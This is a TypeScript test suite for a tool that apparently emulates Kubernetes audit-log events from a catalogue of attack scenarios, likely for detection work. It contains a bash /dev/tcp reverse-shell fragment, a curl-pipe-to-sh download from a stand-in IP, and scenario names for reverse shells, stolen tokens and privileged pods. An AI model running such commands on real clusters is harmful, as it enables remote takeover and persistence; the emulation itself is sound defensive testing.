import { describe, expect, it } from 'vitest';
import { buildAuditEvents } from '../../src/emulate/build-events.js';
import { SCENARIOS, scenarioById } from '../../src/emulate/catalogue/index.js';
import { renderJsonl } from '../../src/emulate/render.js';
import type { AuditEvent } from '../../src/schema/audit-event.js';

const all = buildAuditEvents(SCENARIOS);
const complete = (events: AuditEvent[]) => events.filter((e) => e.stage === 'ResponseComplete');
const of = (id: string) => buildAuditEvents([scenarioById(id)]);
const UUID_V4 = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
const MICRO_TIME = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/;
const record = (v: unknown) => v as Record<string, unknown>;
const meta = (v: unknown) => record(record(v).metadata);

describe('buildAuditEvents: event shape', () => {
  it('gives every event the fields a kube-apiserver event has', () => {
    for (const e of all) {
      expect(e.kind).toBe('Event');
      expect(e.apiVersion).toBe('audit.k8s.io/v1');
      expect(['Metadata', 'Request', 'RequestResponse']).toContain(e.level);
      expect(e.auditID).toMatch(UUID_V4);
      expect(['RequestReceived', 'ResponseComplete']).toContain(e.stage);
      expect(e.requestURI).toMatch(/^\/apis?\//);
      expect(e.user?.username).toBeTruthy();
      expect(e.sourceIPs?.length).toBe(1);
      expect(e.userAgent).toBeTruthy();
      expect(e.objectRef?.resource).toBeTruthy();
      expect(e.objectRef?.apiVersion).toBeTruthy();
      expect(e.requestReceivedTimestamp).toMatch(MICRO_TIME);
      expect(e.stageTimestamp).toMatch(MICRO_TIME);
    }
  });

  it('writes RequestReceived before the body is read: no bodies, status, annotations or impersonation', () => {
    for (const e of all.filter((x) => x.stage === 'RequestReceived')) {
      expect(e).not.toHaveProperty('requestObject');
      expect(e).not.toHaveProperty('responseObject');
      expect(e).not.toHaveProperty('responseStatus');
      expect(e).not.toHaveProperty('annotations');
      expect(e).not.toHaveProperty('impersonatedUser');
      expect(e.stageTimestamp).toBe(e.requestReceivedTimestamp);
      if (e.verb === 'create') expect(e.objectRef).not.toHaveProperty('name');
    }
  });

  it('completes every request with a status code and an authorization decision', () => {
    for (const e of complete(all)) {
      expect(typeof e.responseStatus?.code).toBe('number');
      expect(['allow', 'forbid']).toContain(e.annotations?.['authorization.k8s.io/decision']);
      expect(e.annotations).toHaveProperty(['authorization.k8s.io/reason']);
    }
  });

  it('shares one auditID between the two stages of a request and never across requests', () => {
    const byId = new Map<string, AuditEvent[]>();
    for (const e of all) byId.set(e.auditID!, [...(byId.get(e.auditID!) ?? []), e]);
    for (const [, pair] of byId) {
      expect(pair.map((e) => e.stage)).toEqual(['RequestReceived', 'ResponseComplete']);
      expect(pair[0]!.requestURI).toBe(pair[1]!.requestURI);
      expect(pair[0]!.user).toEqual(pair[1]!.user);
    }
  });

  it('keeps bodies to what the level allows', () => {
    for (const e of complete(all)) {
      if (e.level === 'Metadata') {
        expect(e).not.toHaveProperty('requestObject');
        expect(e).not.toHaveProperty('responseObject');
      }
      if (e.level === 'Request') expect(e).not.toHaveProperty('responseObject');
    }
  });

  it('orders the log by stage time', () => {
    const times = all.map((e) => e.stageTimestamp!);
    expect([...times].sort()).toEqual(times);
  });

  it('is deterministic, and the seed changes the ids', () => {
    expect(renderJsonl(buildAuditEvents(SCENARIOS))).toBe(renderJsonl(all));
    const reseeded = buildAuditEvents(SCENARIOS.slice(0, 3), { seed: 'other' });
    const first = buildAuditEvents(SCENARIOS.slice(0, 3));
    expect(reseeded.map((e) => e.auditID)).not.toEqual(first.map((e) => e.auditID));
    // Jitter moves with the seed, so compare what was requested, not when.
    expect(reseeded.map((e) => e.requestURI).sort()).toEqual(first.map((e) => e.requestURI).sort());
  });

  it('escapes <, > and & the way Go does', () => {
    const text = renderJsonl(of('rev-shell-bash-dev-tcp-deployment'));
    expect(text).not.toMatch(/[<>&]/);
    expect(text).toContain('bash -i \\u003e\\u0026 /dev/tcp');
    expect(
      text
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l)),
    ).toEqual(of('rev-shell-bash-dev-tcp-deployment'));
  });
});

describe('buildAuditEvents: what the server does to the body', () => {
  it('applies API defaults to the request and stamps identity on the response', () => {
    const [create] = complete(of('seed-kubectl-create-cronjob'));
    const request = record(create!.requestObject);
    expect(meta(request)).toEqual({ name: 'example-cron', creationTimestamp: null });
    const spec = record(record(create!.responseObject).spec);
    expect(spec).toMatchObject({
      concurrencyPolicy: 'Allow',
      suspend: false,
      successfulJobsHistoryLimit: 3,
      failedJobsHistoryLimit: 1,
    });
    const podSpec = record(record(record(record(spec.jobTemplate).spec).template).spec);
    expect(podSpec).toMatchObject({
      restartPolicy: 'OnFailure',
      terminationGracePeriodSeconds: 30,
      dnsPolicy: 'ClusterFirst',
      schedulerName: 'default-scheduler',
      securityContext: {},
    });
    expect((podSpec.containers as unknown[])[0]).toMatchObject({
      image: 'alpine',
      imagePullPolicy: 'Always',
      terminationMessagePath: '/dev/termination-log',
      terminationMessagePolicy: 'File',
    });
    const stored = meta(create!.responseObject);
    expect(stored.uid).toMatch(UUID_V4);
    expect(stored).toMatchObject({ namespace: 'default', generation: 1 });
    expect(create!.requestURI).toBe(
      '/apis/batch/v1/namespaces/default/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict',
    );
  });

  it('gives Jobs their selector, labels and batch defaults', () => {
    const job = complete(of('seed-privileged-job-hostpath-etc')).find(
      (e) => e.objectRef?.resource === 'jobs',
    )!;
    const stored = record(job.responseObject);
    const uid = meta(stored).uid as string;
    expect(record(stored.spec)).toMatchObject({
      backoffLimit: 0,
      completions: 1,
      parallelism: 1,
      completionMode: 'NonIndexed',
      suspend: false,
      selector: { matchLabels: { 'batch.kubernetes.io/controller-uid': uid } },
    });
    expect(meta(stored).labels).toMatchObject({
      'controller-uid': uid,
      'job-name': 'argus-test-privileged-job',
    });
  });

  it('logs a denied request without a body or a name', () => {
    const [denied] = complete(of('denied-cronjob-stolen-token'));
    expect(denied!.responseStatus).toMatchObject({
      code: 403,
      reason: 'Forbidden',
      status: 'Failure',
    });
    expect(denied!.annotations?.['authorization.k8s.io/decision']).toBe('forbid');
    expect(denied).not.toHaveProperty('requestObject');
    expect(record(denied!.responseObject).kind).toBe('Status');
    expect(denied!.objectRef).not.toHaveProperty('name');
    expect(denied!.user?.extra?.['authentication.kubernetes.io/pod-name']).toEqual([
      'shop-cart-66b8d9f4c7-m4vtr',
    ]);
  });

  it('keeps the body of a request admission rejected', () => {
    const [rejected] = complete(of('psa-rejected-privileged-pod'));
    expect(rejected!.responseStatus?.code).toBe(403);
    expect(rejected!.annotations?.['authorization.k8s.io/decision']).toBe('allow');
    expect(rejected!.annotations?.['pod-security.kubernetes.io/enforce-policy']).toBe(
      'baseline:latest',
    );
    expect(record(rejected!.requestObject).kind).toBe('Pod');
  });

  it('logs the raw patch document: an array for JSON Patch, an object otherwise', () => {
    const json = complete(of('rev-shell-ruby-json-patch-cronjob'))[0]!;
    expect(Array.isArray(json.requestObject)).toBe(true);
    expect(json.objectRef).not.toHaveProperty('uid');
    const stored = JSON.stringify(json.responseObject);
    expect(stored).toContain('ruby:3.3-alpine');
    expect(stored).toContain('*/5 * * * *');

    const strategic = complete(of('download-curl-pipe-sh-strategic-patch-cronjob'))[0]!;
    expect(record(strategic.requestObject)).not.toHaveProperty('kind');
    expect(JSON.stringify(strategic.responseObject)).toContain(
      'curl -fsSL https://198.51.100.77/k.sh | sh',
    );

    const merge = complete(of('rev-shell-php-merge-patch-deployment'))[0]!;
    expect(merge.level).toBe('Request');
    expect(record(merge.requestObject)).toHaveProperty('spec');
    expect(merge).not.toHaveProperty('responseObject');
  });

  it('logs a server-side apply that creates as patch 201 with the apply body', () => {
    const ssa = complete(of('download-chmod-exec-ssa-cronjob'))[0]!;
    expect(ssa.verb).toBe('patch');
    expect(ssa.responseStatus?.code).toBe(201);
    expect(ssa.requestURI).toContain('?fieldManager=kubectl&fieldValidation=Strict&force=false');
    expect(record(ssa.requestObject)).toMatchObject({ apiVersion: 'batch/v1', kind: 'CronJob' });
    const managed = (meta(ssa.responseObject).managedFields as Record<string, unknown>[])[0]!;
    expect(managed).toMatchObject({ manager: 'kubectl', operation: 'Apply' });
  });

  it('records uid and resourceVersion in objectRef for updates, as decoded from the body', () => {
    const status = complete(of('seed-reverse-shell-cronjob')).find(
      (e) => e.objectRef?.subresource === 'status',
    )!;
    expect(status.verb).toBe('update');
    expect(status.objectRef?.uid).toMatch(UUID_V4);
    expect(status.objectRef?.resourceVersion).toMatch(/^\d+$/);
  });

  it('records both identities of an impersonated request, only once it completes', () => {
    const [received, done] = of('impersonated-system-sa-privileged-pod');
    expect(received).not.toHaveProperty('impersonatedUser');
    expect(done!.impersonatedUser?.username).toBe('system:serviceaccount:kube-system:default');
    expect(done!.user?.username).toBe('oidc:j.kowalski@acme-corp.io');
  });

  it('marks batch/v1beta1 requests deprecated', () => {
    const create = complete(of('atomic-t1053-007-cronjob')).find(
      (e) => e.verb === 'create' && e.objectRef?.resource === 'cronjobs',
    )!;
    expect(create.objectRef?.apiVersion).toBe('v1beta1');
    expect(create.annotations).toMatchObject({
      'k8s.io/deprecated': 'true',
      'k8s.io/removed-release': '1.25',
    });
  });
});

describe('buildAuditEvents: controller follow-ups', () => {
  const events = complete(of('seed-reverse-shell-cronjob'));
  const cronJob = events[0]!;
  const cronJobUid = meta(cronJob.responseObject).uid;
  const jobs = events.filter((e) => e.objectRef?.resource === 'jobs');
  const pods = events.filter((e) => e.objectRef?.resource === 'pods');

  it('runs the CronJob on schedule: a Job per run, named after the scheduled minute', () => {
    expect(jobs).toHaveLength(2);
    for (const job of jobs) {
      expect(job.user?.username).toBe('system:serviceaccount:kube-system:cronjob-controller');
      expect(job.userAgent).toMatch(
        /^kube-controller-manager\/v1\.29\.3 .*\/system:serviceaccount:kube-system:cronjob-controller$/,
      );
      const m = meta(job.responseObject);
      const scheduled = (m.annotations as Record<string, string>)[
        'batch.kubernetes.io/cronjob-scheduled-timestamp'
      ]!;
      expect(m.name).toBe(`argus-test-cronjob-${Date.parse(scheduled) / 60000}`);
      expect(m.ownerReferences).toEqual([
        {
          apiVersion: 'batch/v1',
          kind: 'CronJob',
          name: 'argus-test-cronjob',
          uid: cronJobUid,
          controller: true,
          blockOwnerDeletion: true,
        },
      ]);
    }
  });

  it("has the job controller create each run's Pod with the job labels and owner", () => {
    expect(pods).toHaveLength(2);
    pods.forEach((pod, i) => {
      const job = meta(jobs[i]!.responseObject);
      expect(pod.user?.username).toBe('system:serviceaccount:kube-system:job-controller');
      expect(pod.objectRef).not.toHaveProperty('name');
      const m = meta(pod.responseObject);
      expect(m.name).toMatch(new RegExp(`^${String(job.name)}-[bcdfghjklmnpqrstvwxz2456789]{5}$`));
      expect(m.labels).toMatchObject({
        'job-name': job.name,
        'batch.kubernetes.io/controller-uid': job.uid,
      });
      expect((m.ownerReferences as unknown[])[0]).toMatchObject({
        kind: 'Job',
        uid: job.uid,
        controller: true,
      });
      expect(pod.annotations?.['pod-security.kubernetes.io/enforce-policy']).toBe(
        'privileged:latest',
      );
    });
  });

  it('updates the CronJob status after each run', () => {
    const status = events.filter((e) => e.objectRef?.subresource === 'status');
    expect(status).toHaveLength(2);
    expect(JSON.stringify(status[1]!.requestObject)).toContain(
      String(meta(jobs[1]!.responseObject).name),
    );
  });

  it('rolls a Deployment out through a ReplicaSet', () => {
    const rollout = complete(of('rev-shell-bash-dev-tcp-deployment'));
    const rs = rollout.find((e) => e.objectRef?.resource === 'replicasets')!;
    expect(rs.user?.username).toBe('system:serviceaccount:kube-system:deployment-controller');
    expect(String(rs.objectRef?.name)).toMatch(/^metrics-sidecar-injector-[a-z0-9]{10}$/);
    const pod = rollout.find((e) => e.objectRef?.resource === 'pods')!;
    expect(pod.user?.username).toBe('system:serviceaccount:kube-system:replicaset-controller');
  });

  it('pins each DaemonSet pod to a node', () => {
    const pods = complete(of('rev-shell-socat-daemonset')).filter(
      (e) => e.objectRef?.resource === 'pods',
    );
    const nodes = pods.map((p) => JSON.stringify(record(record(p.responseObject).spec).affinity));
    expect(pods).toHaveLength(2);
    expect(new Set(nodes).size).toBe(2);
  });
});
